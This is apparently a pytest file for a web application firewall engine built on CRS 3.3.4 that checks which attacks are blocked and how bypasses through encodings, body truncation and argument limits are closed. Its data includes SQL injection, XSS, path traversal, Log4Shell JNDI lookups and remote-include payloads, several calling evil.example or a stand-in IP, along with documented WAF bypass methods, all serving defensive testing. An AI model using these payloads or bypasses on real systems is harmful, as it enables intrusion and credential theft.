"""The WAF engine (CRS 3.3.4 on libmodsecurity) without sockets: the attack
corpus blocked at PL1, ordinary traffic passing, exclusions, bodies cut at
max_body_bytes, bodies that do not parse."""

from __future__ import annotations

from collections import Counter

import pytest

from edgefn_core.errors import DeployError, InvalidConfig
from runtime.net.message import Request
from runtime.security.settings import WafSettings
from runtime.security.waf import check_available, crs, missing
from runtime.security.waf.crs import Profile
from runtime.security.waf.engine import WafEngine
from tests.security.waf_corpus import ATTACKS, CLEAN, KNOWN_FALSE_POSITIVES, Case, js

# Attacks CRS 3.3.4 does not block at PL1 (threshold 5), and why: each is either
# below any PL1 rule or matched by one warning (score 3) alone.
KNOWN_MISSES = {
    "/search?x=include%28http%3A%2F%2Fevil.example%2Fr57.txt%29": "931: no IP, no trailing ?",
    "/search?cmd=%7C%20id": "932: `id` is not in PL1's command list",
    "/search?x=process.mainModule.require%28%27child_process%27%29.execSync%28%27ls%27%29":
        "934: 3.3's PL1 knows only serialized functions",
    '{"name": "require(\'child_process\').spawn(\'sh\')"}': "934: as above",
    "${jndi:ldap://evil.example/exploit}": "944: Log4Shell in User-Agent not at PL1",
    "${jndi:rmi://203.0.113.7/o}": "944: Log4Shell in another header not at PL1",
    "/search?x=%25%7B%28%23_%3D%27multipart%2Fform-data%27%29.%28%23cmd%3D%27id%27%29%7D":
        "944: OGNL; 920220 (warning) only",
    "state=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA%3D%3D": "944: serialized Java is PL2+",
    "/search?q=%zz%zz": "920220: a warning (3) alone", "/search?q=abc%u00zz": "as above",
    "<no host>": "920280 missing Host: a warning alone",
    "bytes=0-1,2-3": "920200 (too many ranges) is PL2",
    "/?a=1&a=2&x%5B=%0D%0AHeader%3A%20y": "921120 knows only Content-*, Set-Cookie, Location",
}


def request(case: Case) -> Request:
    path, _, query = case.target.partition("?")
    headers = [(k.encode(), v.encode()) for k, v in case.all_headers()]
    r = Request(case.method.encode(), path.encode(), query.encode(), headers, b"api.example.com",
                "1.1", True, "192.0.2.10:40000")
    r.body = case.body
    return r


def known_miss(case: Case) -> bool:
    where = [case.target, case.body.decode(), *(v or "<no host>" for v in case.headers.values())]
    return any(key in text for key in KNOWN_MISSES for text in where)


@pytest.fixture(scope="module")
def pl1() -> WafEngine:
    return WafEngine(Profile.of(WafSettings()))


@pytest.fixture(scope="module")
def openai_pl1() -> WafEngine:
    return WafEngine(Profile.of(WafSettings(), prompts=True))


def test_corpus_covers_each_crs_attack_file() -> None:
    labels = Counter(c.label for c in ATTACKS)
    assert len(ATTACKS) >= 150 and len(CLEAN) >= 60
    assert set(labels) == {"942-sqli", "941-xss", "930-lfi", "931-rfi", "932-rce", "933-php",
                           "934-nodejs", "944-java", "913-scanner", "920-protocol",
                           "921-protocol-attack", "943-session-fixation"}


def test_attacks_blocked_at_pl1_except_the_known_misses(pl1: WafEngine) -> None:
    blocked: Counter[str] = Counter()
    total: Counter[str] = Counter()
    wrong = []
    for case in ATTACKS:
        verdict = pl1.inspect(request(case), "192.0.2.10:40000", 128 * 1024)
        total[case.label] += 1
        blocked[case.label] += verdict.blocked
        if verdict.blocked == known_miss(case):
            wrong.append((case, verdict))
    for label in sorted(total):
        print(f"{label:24} {blocked[label]:3}/{total[label]:3} blocked at PL1")
    rate = sum(blocked.values()) / len(ATTACKS)
    print(f"all: {sum(blocked.values())}/{len(ATTACKS)} = {rate:.1%}")
    assert wrong == []
    assert sum(blocked.values()) == len(ATTACKS) - len(KNOWN_MISSES)


@pytest.mark.parametrize("case", CLEAN, ids=lambda c: f"{c.label}:{c.target[:40]}")
def test_ordinary_traffic_passes_at_pl1(case: Case, pl1: WafEngine,
                                       openai_pl1: WafEngine) -> None:
    engine = openai_pl1 if case.target.startswith("/v1/") else pl1
    verdict = engine.inspect(request(case), "192.0.2.10:40000", 128 * 1024)
    assert not verdict.blocked, verdict
    assert verdict.score < 5


def test_prompt_fields_are_matched_outside_the_openai_api(pl1: WafEngine,
                                                           openai_pl1: WafEngine) -> None:
    """The same chat body: blocked when a function receives it, not on /v1/*; the
    OpenAI API's other fields are still inspected."""
    prompt = next(c for c in CLEAN if b"Fix my code" in c.body)
    assert pl1.inspect(request(prompt), "1.2.3.4:5", 65536).blocked
    assert not openai_pl1.inspect(request(prompt), "1.2.3.4:5", 65536).blocked
    attack = js("chat", {"model": "x' UNION SELECT password FROM users--", "messages": []},
                path="/v1/chat/completions")
    assert openai_pl1.inspect(request(attack), "1.2.3.4:5", 65536).blocked


@pytest.mark.parametrize("case,rules", KNOWN_FALSE_POSITIVES)
def test_exclusion_stops_that_block(case: Case, rules: list[int], pl1: WafEngine) -> None:
    before = pl1.inspect(request(case), "1.2.3.4:5", 65536)
    assert before.blocked and set(rules) <= set(before.rules)
    excluded = WafEngine(Profile.of(WafSettings(exclude_rules=rules)))
    after = excluded.inspect(request(case), "1.2.3.4:5", 65536)
    assert not after.blocked and not set(rules) & set(after.rules)
    assert after.score == 0


def test_excluding_one_rule_leaves_the_others(pl1: WafEngine) -> None:
    case = Case("942-sqli", "GET", "/search?q=1%27%20OR%20%271%27%3D%271")
    excluded = WafEngine(Profile.of(WafSettings(exclude_rules=[942100])))
    assert pl1.inspect(request(case), "1.2.3.4:5", 0).rules == [942100, 949110]
    assert excluded.inspect(request(case), "1.2.3.4:5", 0).rules == []
    xss = Case("941-xss", "GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E")
    assert excluded.inspect(request(xss), "1.2.3.4:5", 0).blocked


def test_verdict_reports_rules_score_and_threshold(pl1: WafEngine) -> None:
    case = Case("942-sqli", "GET", "/search?q=1%27%20OR%20%271%27%3D%271")
    verdict = pl1.inspect(request(case), "1.2.3.4:5", 0)
    assert (verdict.rules, verdict.score, verdict.blocked) == ([942100, 949110], 5, True)
    lenient = WafEngine(Profile.of(WafSettings(anomaly_threshold=6)))
    assert lenient.inspect(request(case), "1.2.3.4:5", 0) == type(verdict)(
        [942100], 5, False, False)


def test_a_rule_that_matches_twice_is_reported_once(pl1: WafEngine) -> None:
    """930110 matches a traversal in both ARGS and REQUEST_URI: one request, one id."""
    case = Case("930-lfi", "GET", "/wafy?file=../../../../etc/passwd")
    rules = pl1.inspect(request(case), "1.2.3.4:5", 0).rules
    assert 930110 in rules and len(rules) == len(set(rules)), rules


ATTACK_TAIL = b', "x": "<script>alert(1)</script>"}'


def test_body_inspected_up_to_max_body_bytes(pl1: WafEngine) -> None:
    """An attack inside the first max_body_bytes is blocked; past them it is not
    seen, and a JSON body cut there does not count as unparsable."""
    head = b'{"a": "' + b"x" * 100 + b'"'
    case = Case("json", "POST", "/api", {"content-type": "application/json"}, head + ATTACK_TAIL)
    whole = len(case.body)
    assert not pl1.inspect(request(case), "1.2.3.4:5", whole).truncated
    inside = pl1.inspect(request(case), "1.2.3.4:5", whole - 1)  # all but the final }
    assert (inside.blocked, inside.truncated) == (True, True)
    assert crs.BODY_ERROR_RULE not in inside.rules
    cut = pl1.inspect(request(case), "1.2.3.4:5", len(head))  # the attack is past the limit
    assert (cut.blocked, cut.truncated, cut.rules) == (False, True, [])
    off = pl1.inspect(request(case), "1.2.3.4:5", 0)
    assert (off.blocked, off.truncated) == (False, True)


def test_unparsable_body_blocked_unless_cut(pl1: WafEngine) -> None:
    case = Case("json", "POST", "/api", {"content-type": "application/json"}, b'{"a": [1, 2')
    verdict = pl1.inspect(request(case), "1.2.3.4:5", 1024)
    assert (verdict.blocked, verdict.rules) == (True, [crs.BODY_ERROR_RULE])
    deep = Case("json", "POST", "/api", {"content-type": "application/json"},
                b"[" * 300 + b"]" * 300)
    assert pl1.inspect(request(deep), "1.2.3.4:5", 1024).rules == [crs.BODY_ERROR_RULE]


@pytest.mark.parametrize("content_type,body", [
    ("application/json", b'{"q": "1\' OR \'1\'=\'1"}'),
    ("application/x-www-form-urlencoded", b"q=1%27%20OR%20%271%27%3D%271")])
def test_chunked_body_still_parsed(content_type: str, body: bytes, pl1: WafEngine) -> None:
    """No Content-Length (the client sent chunks): the body processors still see
    the arguments."""
    case = Case("json", "POST", "/api", {"content-type": content_type,
                                         "transfer-encoding": "chunked"}, body)
    r = request(case)
    r.headers = [(k, v) for k, v in r.headers if k != b"content-length"]
    assert 942100 in pl1.inspect(r, "1.2.3.4:5", 1024).rules


@pytest.mark.parametrize("content_type", ["text/plain", "text/plain; charset=utf-8", None])
def test_a_json_body_sent_as_text_is_read_as_json(content_type: str | None,
                                                  pl1: WafEngine) -> None:
    """A function parses JSON whatever the type says: a text/plain body was never
    inspected (a bypass). Plain text that is not JSON still passes, unparsed."""
    headers = {"content-type": content_type} if content_type else {}
    attack = Case("text", "POST", "/api", headers, b'{"q": "<script>alert(1)</script>"}')
    assert pl1.inspect(request(attack), "1.2.3.4:5", 1024).blocked
    prose = Case("text", "POST", "/api", headers, b"{not json, just a note about scripts}")
    verdict = pl1.inspect(request(prose), "1.2.3.4:5", 1024)
    assert not verdict.blocked and crs.BODY_ERROR_RULE not in verdict.rules


@pytest.mark.parametrize("content_type", ["text/plain", None])
@pytest.mark.parametrize("codec", ["utf-8", "utf-16-le"])
def test_a_json_body_sent_as_text_and_cut_at_the_limit_is_read_up_to_the_cut(
        content_type: str | None, codec: str, pl1: WafEngine) -> None:
    """Cut at `max_body_bytes`, a text/plain JSON body does not parse whole: it went
    uninspected (the function, which reads all of it, got the attack in its first
    bytes), where one typed JSON was read up to the cut. A cut inside a UTF-16
    character too."""
    headers = {"content-type": content_type} if content_type else {}
    body = ('{"q": "1\' UNION SELECT password FROM users--", "pad": "' + "A" * 3000
            + '"}').encode(codec)
    limit = 1001 if codec == "utf-16-le" else 1000
    verdict = pl1.inspect(request(Case("text", "POST", "/api", headers, body)),
                          "1.2.3.4:5", limit)
    assert verdict.blocked and verdict.truncated, verdict
    prose = Case("text", "POST", "/api", headers, b"{a note, " + b"not json " * 300)
    verdict = pl1.inspect(request(prose), "1.2.3.4:5", 1000)
    assert not verdict.blocked and verdict.truncated, verdict


@pytest.mark.parametrize("content_type", ["multipart/related", "multipart/related; boundary=abc",
                                          "Multipart/Related;charset=utf-8"])
def test_multipart_related_is_refused(content_type: str, pl1: WafEngine) -> None:
    """libmodsecurity parses no multipart/related body: its parts reached the rules as
    one opaque value none read, so any attack in them passed. It is refused by type
    (920420), as CRS refuses other types it was not told to allow."""
    parts = (b"--abc\r\nContent-Type: application/json\r\n\r\n"
             b'{"q": "a plain note"}\r\n--abc--\r\n')
    verdict = pl1.inspect(request(Case("mp", "POST", "/api", {"content-type": content_type},
                                       parts)), "1.2.3.4:5", 1 << 20)
    assert verdict.blocked and 920420 in verdict.rules, verdict
    form = Case("mp", "POST", "/api", {"content-type": "multipart/form-data; boundary=abc"},
                b'--abc\r\nContent-Disposition: form-data; name="q"\r\n\r\n'
                b"a plain note\r\n--abc--\r\n")
    assert not pl1.inspect(request(form), "1.2.3.4:5", 1 << 20).blocked


@pytest.mark.parametrize("encoded", [
    b"\xef\xbb\xbf" + b'{"q": "1\' UNION SELECT username, password FROM users--"}',
    *('{"q": "1\' UNION SELECT username, password FROM users--"}'.encode(codec)
      for codec in ("utf-16", "utf-16-be", "utf-16-le", "utf-32", "utf-32-le")),
])
def test_a_json_body_with_a_bom_or_in_utf_16_or_32_is_read_as_json(
        encoded: bytes, pl1: WafEngine) -> None:
    """`json.loads` of bytes (the SDK's request.json()) takes a BOM and UTF-16/32: such
    a text/plain body got past the WAF, though the function read the attack."""
    import json

    assert json.loads(encoded)["q"].startswith("1' UNION")  # the premise
    attack = Case("text", "POST", "/api", {"content-type": "text/plain"}, encoded)
    verdict = pl1.inspect(request(attack), "1.2.3.4:5", 1 << 20)
    assert verdict.blocked, verdict


@pytest.mark.parametrize("content_type", ["application/json", "application/merge-patch+json"])
@pytest.mark.parametrize("codec", ["utf-8-sig", "utf-16", "utf-32-le"])
def test_a_json_typed_body_with_a_bom_or_in_utf_16_or_32_is_read_not_refused(
        content_type: str, codec: str, pl1: WafEngine) -> None:
    """Typed as JSON, the rules' parser refused it as unparseable (10003): a false
    positive for a body the function reads; its fields are inspected now."""
    clean = Case("json", "POST", "/api", {"content-type": content_type},
                 '{"q": "a plain note"}'.encode(codec))
    verdict = pl1.inspect(request(clean), "1.2.3.4:5", 1 << 20)
    assert not verdict.blocked and crs.BODY_ERROR_RULE not in verdict.rules, verdict
    attack = Case("json", "POST", "/api", {"content-type": content_type},
                  '{"q": "1\' UNION SELECT username, password FROM users--"}'.encode(codec))
    assert pl1.inspect(request(attack), "1.2.3.4:5", 1 << 20).blocked


def test_missing_rules_named(tmp_path: object) -> None:
    settings = WafSettings(mode="block", crs_rules=str(tmp_path))
    reason = missing(settings)
    assert reason is not None and str(tmp_path) in reason and "modsecurity-crs" in reason
    with pytest.raises(DeployError, match=r'mode = "block" needs the WAF'):
        check_available(settings, "shop")
    check_available(WafSettings(mode="detect", crs_rules=str(tmp_path)))  # not refused
    with pytest.raises(InvalidConfig, match="no CRS rules") as e:
        WafEngine(Profile.of(settings))
    assert e.value.field == "waf"
    assert missing(WafSettings()) is None


PROBE = ("import sys\n{first}\nfrom runtime.security.settings import WafSettings\n"
         "from runtime.security.waf import missing\nprint(missing(WafSettings()))\n")


@pytest.mark.parametrize("first,expect", [
    ("import usearch.index", "cannot parse rules in this process"),
    ("from edgefn_core.process import load_system_libstdcxx\nload_system_libstdcxx()\n"
     "import usearch.index", "None")])
def test_a_libstdcxx_clash_is_named(first: str, expect: str) -> None:
    """usearch (kv's vectors) exports its own libstdc++: loaded before the system's,
    libmodsecurity's rule parser breaks. `missing` says so instead of a parse error."""
    import os
    import subprocess
    import sys

    from tests.support import ROOT

    out = subprocess.run([sys.executable, "-c", PROBE.format(first=first)], capture_output=True,
                         text=True, timeout=60, check=True, cwd=ROOT,
                         env={**os.environ, "PYTHONPATH": str(ROOT)}).stdout
    assert expect in out


SQLI = "1%27%20UNION%20SELECT%20username,password%20FROM%20users--"


@pytest.mark.parametrize("where", ["query", "form"])
def test_an_attack_after_the_argument_limit_is_refused(where: str, pl1: WafEngine) -> None:
    """The engine reads at most 1000 arguments: `a0=1&...&a999=1&q=<SQLi>` got through
    (the rules never saw q)."""
    padding = "&".join(f"a{i}=1" for i in range(crs.MAX_ARGS))
    for pad, blocked in ((padding, True), ("&".join(padding.split("&")[:999]), False)):
        # 1001 arguments: one unread, refused; 1000: all read, passed
        text = f"{pad}&q=1"  # the last argument: harmless
        if where == "query":
            case = Case("args", "GET", f"/echo?{text}", {}, b"")
        else:
            case = Case("args", "POST", "/echo",
                        {"content-type": "application/x-www-form-urlencoded"}, text.encode())
        verdict = pl1.inspect(request(case), "1.2.3.4:5", 1 << 20)
        assert verdict.blocked is blocked, (where, len(pad.split("&")) + 1, verdict)
        assert (crs.ARGS_RULE in verdict.rules) is blocked
    attack = Case("args", "GET", f"/echo?{padding}&q={SQLI}", {}, b"")
    assert pl1.inspect(request(attack), "1.2.3.4:5", 1 << 20).blocked


@pytest.mark.parametrize("kind", ["application/merge-patch+json", "application/vnd.api+json",
                                  "application/problem+json; charset=utf-8",
                                  "application/ld+json"])
def test_json_media_types_are_allowed_and_read_as_json(kind: str, pl1: WafEngine) -> None:
    """Rule 920420 refused every +json type but CRS's two (a JSON:API or merge-patch
    client got 403 for `{"a": 1}`); their bodies are still inspected as JSON."""
    ok = Case("json", "PATCH", "/api", {"content-type": kind}, b'{"a": 1}')
    assert not pl1.inspect(request(ok), "1.2.3.4:5", 1024).blocked
    bad = Case("json", "PATCH", "/api", {"content-type": kind},
               b'{"q": "<script>alert(1)</script>"}')
    assert pl1.inspect(request(bad), "1.2.3.4:5", 1024).blocked
    odd = Case("json", "PATCH", "/api", {"content-type": "application/x-evil"}, b'{"a": 1}')
    assert 920420 in pl1.inspect(request(odd), "1.2.3.4:5", 1024).rules  # still refused
